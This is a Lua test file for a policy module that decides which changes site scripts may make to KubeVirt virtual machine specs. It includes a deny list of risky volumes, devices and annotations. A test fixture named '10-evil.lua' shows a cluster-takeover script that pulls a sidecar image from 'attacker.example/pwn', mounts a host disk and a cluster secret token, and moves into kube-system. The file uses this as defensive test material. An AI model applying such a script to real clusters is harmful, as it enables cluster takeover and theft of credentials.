local machine_rules = require "policy.site.machine_rules"
local plan = require "policy.plan"
local sample = require "support.sample"
local sandbox = require "site.sandbox"
local values = require "base.values"

describe("policy.site.machine_rules", function()
  local input, made

  setup(function()
    input = sample.input({ guest = { family = "windows" },
      firmware = { uefi = true, secure_boot = true, tpm = true } })
    made = assert(plan.build(input, function(name)
      return name == "cloud_init" and { user_data = "#cloud-config" } or nil
    end))
  end)

  -- What is said of the built-in machine, changed.
  local function problem(change)
    local machine = values.copy(made.virtual_machine)
    change(machine, machine.spec.template.spec, machine.spec.template.metadata)
    return machine_rules.problem(machine, made.virtual_machine, made)
  end

  local function add(list, item)
    list[#list + 1] = item
  end

  it("say nothing of what is built in", function()
    assert.is_nil(problem(function() end))
  end)

  local ALLOWED = {
    ["where it runs"] = function(_, spec)
      spec.nodeSelector = { zone = "a" }
      spec.tolerations = { { key = "gpu", operator = "Exists" } }
      spec.affinity = { nodeAffinity = {} }
    end,
    ["other hardware"] = function(_, spec)
      spec.domain.cpu.model = "host-passthrough"
      spec.domain.devices.rng = {}
      spec.domain.devices.interfaces[1].model = "e1000"
    end,
    ["an empty disk and texts for the guest"] = function(_, spec)
      add(spec.volumes, { name = "e", emptyDisk = { capacity = "1Gi" } })
      add(spec.volumes, { name = "c", cloudInitConfigDrive = { userData = "x" } })
    end,
    ["notes of the site's own"] = function(machine)
      machine.metadata.annotations["site.example.org/owner"] = "ops"
      machine.metadata.annotations["field.cattle.io/description"] = "moved"
      machine.metadata.labels["site.example.org/owner"] = "ops"
    end,
  }
  for what, change in pairs(ALLOWED) do
    it("allow " .. what, function()
      assert.is_nil(problem(change))
    end)
  end

  local function volume(kind, body)
    return function(_, spec)
      add(spec.volumes, { name = "v", [kind] = body or { name = "x" } })
    end, "spec.template.spec.volumes%[3%]." .. kind
  end

  local function device(name)
    return function(_, spec)
      spec.domain.devices[name] = { { name = "x" } }
    end, "spec.template.spec.domain.devices." .. name
  end

  local function of_template(name)
    return function(_, spec)
      spec[name] = { { x = "y" } }
    end, "spec.template.spec." .. name
  end

  local function note(key)
    return function(machine)
      machine.metadata.annotations[key] = "x"
    end, "annotation " .. key
  end

  local function pod_note(key)
    return function(_, _, meta)
      meta.annotations[key] = "x"
    end, "annotation " .. key
  end

  local REFUSED = {
    { volume("secret", { secretName = "cloud-controller-token" }) },
    { volume("configMap") }, { volume("serviceAccount") }, { volume("downwardAPI") },
    { volume("downwardMetrics", {}) }, { volume("sysprep") }, { volume("ephemeral") },
    { volume("containerDisk", { image = "x" }) }, { volume("dataVolume") },
    { volume("memoryDump") },
    { volume("hostDisk", { path = "/var/lib/x.img", type = "DiskOrCreate" }) },
    { volume("aKindThatWillBe") },
    { function(_, spec)
      add(spec.volumes, { name = "v", cloudInitNoCloud = { secretRef = { name = "s" } } })
    end, "cloudInitNoCloud.secretRef" },
    { function(_, spec)
      add(spec.volumes, { name = "v", persistentVolumeClaim = { claimName = "others" } })
    end, "claim others is none of the machine's disks" },
    { device("gpus") }, { device("hostDevices") }, { device("filesystems") },
    { device("clientPassthrough") }, { device("downwardMetrics") },
    { function(_, spec)
      spec.domain.devices.disks[1].lun = { reservation = true }
    end, "devices.disks%[1%].lun" },
    { function(_, spec)
      spec.domain.devices.interfaces[1].sriov = {}
    end, "devices.interfaces%[1%].sriov" },
    { function(_, spec)
      spec.domain.devices.interfaces[1].binding = { name = "plugin" }
    end, "devices.interfaces%[1%].binding" },
    { function(_, spec)
      spec.domain.firmware.kernelBoot = { container = { image = "x" } }
    end, "firmware.kernelBoot" },
    { function(_, spec)
      spec.domain.resources.limits["nvidia.com/gpu"] = "1"
    end, "resources.limits.nvidia.com/gpu" },
    { of_template("accessCredentials") }, { of_template("livenessProbe") },
    { of_template("readinessProbe") }, { of_template("priorityClassName") },
    { of_template("schedulerName") }, { of_template("resourceClaims") },
    { function(machine)
      machine.spec.dataVolumeTemplates = { { spec = {} } }
    end, "spec.dataVolumeTemplates" },
    { function(machine)
      machine.spec.instancetype = { name = "x" }
    end, "spec.instancetype" },
    { function(machine)
      machine.metadata.ownerReferences = {}
    end, "metadata.ownerReferences" },
    { function(machine)
      machine.status = {}
    end, "virtual_machine.status" },
    { note("hooks.kubevirt.io/hookSidecars") }, { note("harvesterhci.io/imageId") },
    { note("harvesterhci.io/volumeClaimTemplates") }, { note("kubevirt.io/x") },
    { note("k8s.v1.cni.cncf.io/networks") }, { note("cdi.kubevirt.io/x") },
    { pod_note("hooks.kubevirt.io/hookSidecars") }, { pod_note("vault.example/inject") },
    { pod_note("harvesterhci.io/sshNames") },
  }
  for _, case in ipairs(REFUSED) do
    it("refuse " .. case[2]:gsub("%%", ""), function()
      local said = problem(case[1])
      assert.truthy(said, "nothing was said")
      assert.truthy(said:find(case[2]) or said:find(case[2], 1, true), said)
    end)
  end

  describe("a script that would take the cluster over", function()
    local LEAD = '  namespace = function() return "kube-system" end,\n'
    local REST = [[
  virtual_machine = function(_, vm)
    vm.spec.template.metadata.annotations = {
      ["hooks.kubevirt.io/hookSidecars"] = '[{"image":"attacker.example/pwn"}]' }
    local s = vm.spec.template.spec
    s.volumes[#s.volumes + 1] = { name = "h", hostDisk = { path = "/var/lib/x.img",
      type = "DiskOrCreate", capacity = "1Gi" } }
    s.volumes[#s.volumes + 1] = { name = "s", secret = { secretName = "token" } }
    return vm
  end,
]]

    local function planned(text, site)
      local box <close> = sandbox.new()
      local set = assert(box:load({ ["10-evil.lua"] = "return {\n" .. text .. "}\n" }, plan))
      local asked = sample.input()
      asked.site = site
      return plan.build(asked, function(...)
        return set:hook(...)
      end)
    end

    it("leads to no other namespace, and puts nothing of the cluster into a machine", function()
      local done, err = planned(LEAD)
      assert.is_nil(done)
      assert.matches("10-evil.lua:2: returns a wrong value: kube-system is neither", err.message,
        1, true)
      done, err = planned(REST)
      assert.is_nil(done)
      assert.equal("virtual_machine", err.hook)
      assert.matches("is more than a script may set without --allow-code", err.message, 1, true)
    end)

    it("does so where the administrator lets it", function()
      local done = assert(planned(LEAD .. REST, { code = true }))
      assert.equal("kube-system", done.namespace)
      done = assert(planned(LEAD, { namespaces = { "kube-system" } }))
      assert.equal("kube-system", done.namespace)
    end)
  end)
end)
